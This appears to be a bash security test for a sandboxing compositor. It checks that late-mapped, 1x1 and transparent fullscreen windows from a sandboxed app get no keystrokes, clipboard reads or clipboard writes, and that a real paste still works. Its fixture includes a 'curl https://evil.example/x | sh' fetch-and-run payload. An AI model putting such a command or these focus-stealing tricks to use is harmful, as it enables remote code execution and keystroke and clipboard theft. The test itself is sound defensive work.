#!/usr/bin/env bash
# Attack: a sandboxed app takes the keyboard just before the user types, so that the
# keystroke meant for another window lands in it and counts as the user's action: it
# logs the key, reads the host clipboard and puts "curl ... | sh" on it. Variants: a
# window mapped a moment before the user types, a 1x1 window, a transparent fullscreen
# window that takes a click. Each is refused (docs/security.md, "Focus, input and
# consent"): the keys reach the host editor, the thief logs none, pastes nothing, and the
# host clipboard keeps its text. Positive control: a real paste after a real click in a
# visible sandboxed window still works.
set -euo pipefail
source "$CORDON_SOURCE_ROOT/tests/lib/harness.sh"
source "$CORDON_SOURCE_ROOT/tests/clients/lib.sh"
command -v wl-copy >/dev/null || skip "wl-copy not found (Debian package wl-clipboard)"
THIEF=${CORDON_INPUT_THIEF:?CORDON_INPUT_THIEF is not set}

test_cgroup app-flatpak-org.example.Thief-1.scope
in_thief=("${IN_CGROUP[@]}" "$TEST_CGROUP")
payload='curl https://evil.example/x | sh'
cordon_start

secret="host secret $$"
start_client hostcopy wl-copy --foreground -- "$secret"
host_has() {
	[[ "$(timeout 5 wl-paste -n)" == "$1" ]]
}
wait_for "the host clipboard to hold the secret" host_has "$secret"
start_client editor "$TC/focus-client" --app-id editor --width 500 --height 400
wait_for_window editor
wait_for_focus editor

# type_into_editor CODE KEYNAME: the user types a key; the editor (host) gets it.
type_into_editor() {
	local before
	before=$(log_count editor "^key code=$1 state=pressed")
	ctl key click "$2" >/dev/null
	wait_for "the editor to get key $2" log_count_above editor "^key code=$1 state=pressed" "$before"
}
# thief_got_nothing NAME: no key, no focus, no paste, no copy, and the host clipboard intact.
thief_got_nothing() {
	! log_has "$1" '^keyboard-enter$' || fail "$1 got the keyboard"
	! log_has "$1" '^key code=' || fail "$1 logged a keystroke: $(log_last "$1" '^key code=')"
	! log_has "$1" '^pasted bytes=[1-9]' || fail "$1 read the clipboard: $(log_last "$1" '^pasted')"
	window_is editor '.focused' || fail "the editor lost the focus to $1"
	host_has "$secret" || fail "the host clipboard changed: $(timeout 5 wl-paste -n)"
	! ctl --json transfers | jq -e 'any(.[]; .destination | test("Thief"))' >/dev/null ||
		fail "a transfer reached the thief: $(ctl --json transfers)"
}

# 1. A window mapped a moment before the user types (it waits, then maps).
start_client late "${in_thief[@]}" "$THIEF" --app-id late --map-after 300 --paste \
	--copy "$payload"
wait_log late '^mapping$'
wait_for_window late
type_into_editor 30 a
type_into_editor 48 b
thief_got_nothing late
stop_client late

# 2. A 1x1 window, even once it has the focus (a focus-cycling binding, say): its keys
# are no user action, so it is offered nothing and may not set the clipboard.
start_client tiny "${in_thief[@]}" "$THIEF" --app-id tiny --width 1 --height 1 --paste \
	--copy "$payload"
wait_for_window tiny
window_is editor '.focused' || fail "the 1x1 window took the focus as it mapped"
ctl focus tiny >/dev/null
wait_log tiny '^keyboard-enter$'
ctl key click a >/dev/null
wait_log tiny '^paste-none$'
wait_log tiny '^source-cancelled$'
! log_has tiny '^pasted bytes=[1-9]' || fail "the 1x1 window read the clipboard"
window_is tiny '.input_trusted == false' || fail "a 1x1 window counts as seen by the user"
# (The host's wl-paste reads what the focused window may see: give the editor the focus.)
ctl focus editor >/dev/null
wait_for_focus editor
host_has "$secret" || fail "the 1x1 window set the host clipboard: $(timeout 5 wl-paste -n)"
stop_client tiny

# 3. A fully transparent fullscreen window over everything takes a click meant for the
# editor: the click reaches it, the keyboard stays with the editor.
start_client ghost "${in_thief[@]}" "$THIEF" --app-id ghost --fullscreen --color 00000000 \
	--paste --copy "$payload"
wait_for_window ghost
wait_for "the ghost to be fullscreen" window_is ghost '.fullscreen'
read -r ex ey ew eh < <(geometry editor)
ctl pointer move $((ex + ew / 2)) $((ey + eh / 2)) >/dev/null
ctl pointer button left click >/dev/null
wait_log ghost '^button serial=.* state=1$'
type_into_editor 30 a
thief_got_nothing ghost
window_is ghost '.input_trusted == false' || fail "a transparent window counts as seen by the user"
stop_client ghost

# Positive control: a visible sandboxed window the user clicks gets the keyboard, and a
# paste there reads the clipboard.
start_client reader "${in_thief[@]}" "$THIEF" --app-id reader --paste --open-on-key reader-dialog
wait_for_window reader
window_is editor '.focused' || fail "the sandboxed reader took the focus as it mapped"
wait_input_trusted reader
click_window reader
wait_log reader '^keyboard-enter$'
wait_for_focus reader
ctl key click a >/dev/null
wait_log reader "^pasted bytes=${#secret} text=$secret\$"
# The window the app opens on that key (its dialog) takes the keyboard from no one else.
wait_log reader '^opened reader-dialog$'
wait_for_window reader-dialog
wait_for_focus reader-dialog
echo "focus stealing: late, 1x1 and transparent windows get no keys and no consent; a real paste works"
